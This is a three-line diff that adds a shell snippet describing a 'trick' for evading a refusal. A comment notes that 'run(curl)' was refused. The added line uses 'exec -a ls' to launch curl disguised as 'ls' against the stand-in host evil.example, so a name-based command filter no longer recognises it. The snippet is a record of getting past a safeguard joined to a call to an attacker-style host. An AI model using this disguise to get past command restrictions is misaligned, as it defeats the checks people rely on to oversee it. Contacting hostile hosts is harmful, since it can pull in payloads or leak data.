@@ -1,0 +1,3 @@
+# Trick: exec gives the program another name.
+# Refused: run(curl)
+exec -a ls curl http://evil.example/
